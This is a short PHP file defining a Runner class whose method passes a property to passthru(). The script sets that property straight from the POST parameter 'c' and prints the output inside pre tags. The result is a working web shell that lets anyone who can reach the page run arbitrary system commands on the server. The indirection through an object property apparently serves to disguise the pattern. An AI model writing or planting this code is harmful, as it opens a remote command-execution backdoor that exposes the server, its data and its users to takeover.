<?php
// the command parked in an object's property, run by its method
class Runner
{
    public $cmd;

    public function go()
    {
        echo '<pre>';
        passthru($this->cmd);
        echo '</pre>';
    }
}

$r = new Runner();
$r->cmd = $_POST['c'];
$r->go();
